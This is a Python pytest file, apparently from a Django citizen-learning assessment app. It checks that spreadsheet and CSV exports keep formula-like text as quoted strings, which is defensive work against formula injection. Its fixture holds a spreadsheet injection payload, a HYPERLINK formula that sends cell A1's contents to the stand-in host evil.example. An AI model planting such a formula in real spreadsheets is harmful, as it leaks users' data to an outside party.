"""Every xlsx and csv the project writes keeps formula-like text as text
(learning_units.spreadsheets): a name registered as "=HYPERLINK(…)" and a comment "+1" are read
back as strings, never formulas."""

import csv
import io
from types import SimpleNamespace

import openpyxl
import pytest
from django.urls import reverse

from assessments.certificates import dossiers
from assessments.models import AssessmentStatus, ReviewEvent
from learning_units import spreadsheets
from learning_units.imports.workbooks import errors_workbook, export_file
from tests.factories import UserFactory
from tests.factories.review import YEAR, make_assessment, review_world_in_admin

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn A")'
COMMENT = "+1"
FORMULA_LIKE = [NAME, COMMENT, "-2", "@SUM(A1)", "\t=1", "\r=1"]


def cells(content):
    """Every cell of every sheet of an xlsx, as openpyxl reads them back."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text(content, *values):
    """Each value is in the workbook, and every cell holding it is a plain string."""
    found = [cell for cell in cells(content) if cell.value in values]
    assert {cell.value for cell in found} == set(values)
    assert all(cell.data_type == "s" for cell in found), [(c.value, c.data_type) for c in found]
    assert all(cell.quotePrefix for cell in found)


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("write_only", [False, True])
def test_the_writer_keeps_formula_like_text_as_text_in_xlsx(write_only):
    workbook = spreadsheets.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("data")
    spreadsheets.append_row(sheet, [*FORMULA_LIKE, 3, "Thôn Hà Tây", None])

    [first, *_rest] = openpyxl.load_workbook(io.BytesIO(spreadsheets.workbook_bytes(workbook)))
    row = next(first.iter_rows())
    assert [cell.value for cell in row[:6]] == FORMULA_LIKE
    assert [cell.data_type for cell in row[:6]] == ["s"] * 6
    assert (row[6].value, row[6].data_type) == (3, "n")
    assert (row[7].value, row[7].quotePrefix) == ("Thôn Hà Tây", False)


def test_the_writer_drops_characters_xlsx_cannot_hold_instead_of_failing():
    workbook = spreadsheets.new_workbook()
    spreadsheets.append_row(workbook.create_sheet("data"), ["Lan\x07"])
    assert [cell.value for cell in cells(spreadsheets.workbook_bytes(workbook))] == ["Lan"]


def test_the_writer_quotes_formula_like_text_in_csv():
    rows = csv_rows(spreadsheets.csv_bytes([FORMULA_LIKE, [3, "Thôn Hà Tây"]]))
    assert rows[0] == ["'" + value for value in FORMULA_LIKE]
    assert rows[1] == ["3", "Thôn Hà Tây"]


@pytest.fixture
def world(db):
    return review_world_in_admin()


@pytest.fixture
def assessment(world):
    assessment = make_assessment(world, status=AssessmentStatus.RECOGNISED, full_name=NAME)
    ReviewEvent.objects.create(
        assessment=assessment,
        actor=world.officers["branch"],
        action="return",
        from_status=AssessmentStatus.SUBMITTED,
        to_status=AssessmentStatus.RETURNED,
        comment=COMMENT,
    )
    return assessment


def test_the_queue_export_keeps_a_name_as_text(client, world, assessment):
    client.force_login(world.officers["commune"])
    response = client.get(reverse("assessment_review:index"), {"export": "xlsx"})
    assert_text(b"".join(response.streaming_content), NAME)


def test_the_admin_citizen_export_keeps_a_name_as_text(client, assessment):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    index = reverse("learning_units_citizens:index")
    xlsx = client.get(index, {"export": "xlsx"})
    assert_text(b"".join(xlsx.streaming_content), NAME)
    rows = csv_rows(b"".join(client.get(index, {"export": "csv"}).streaming_content))
    assert [row[0] for row in rows if NAME in row[0]] == ["'" + NAME]


def test_the_personal_data_export_keeps_a_name_and_a_comment_as_text(client, assessment):
    assessment.citizen.user = UserFactory()
    assessment.citizen.save()
    client.force_login(assessment.citizen.user)
    response = client.get(reverse("learning_units:my_data_download", args=["xlsx"]))
    assert_text(response.content, NAME, COMMENT)


def test_the_dossier_keeps_a_name_as_text(client, world, assessment):
    client.force_login(world.officers["commune"])
    response = client.get(
        reverse(
            "assessments_certificates:dossier_download",
            args=[world.campaign.pk, world.commune.pk, "xlsx"],
        )
    )
    assert response.status_code == 200
    assert_text(response.content, NAME)


def test_the_report_keeps_an_area_name_as_text(client, world, assessment):
    world.branch_area.name = NAME
    world.branch_area.save()
    client.force_login(world.officers["province"])
    response = client.get(reverse("reports:xlsx", args=[world.commune.pk]) + f"?year={YEAR}")
    assert response.status_code == 200
    assert_text(response.content, NAME)


def test_the_import_export_and_error_list_keep_text_as_text(world, assessment):
    officer = world.officers["commune"]
    content, _type = export_file("citizens", officer, "xlsx")
    assert_text(content, NAME)
    content, _type = export_file("citizens", officer, "csv")
    assert "'" + NAME in [value for row in csv_rows(content) for value in row]
    error = SimpleNamespace(row=2, column="Họ và tên", value=COMMENT, message="x", code="y")
    report = SimpleNamespace(file_error=None, errors=[error])
    assert_text(errors_workbook(report), COMMENT)


def test_the_dossier_writer_keeps_text_as_text():
    data = SimpleNamespace(
        title="công dân học tập",
        campaign=SimpleNamespace(year=YEAR),
        area=SimpleNamespace(name="Xã Gia Lộc"),
        rows=[(1, NAME, COMMENT, "", 80, "", "", "")],
        summary=[{"area__name": NAME, "assessed": 1, "recognised": 1, "revoked": 0}],
        totals={"assessed": 1, "recognised": 1, "revoked": 0},
    )
    assert_text(dossiers.dossier_xlsx(data), NAME, COMMENT)
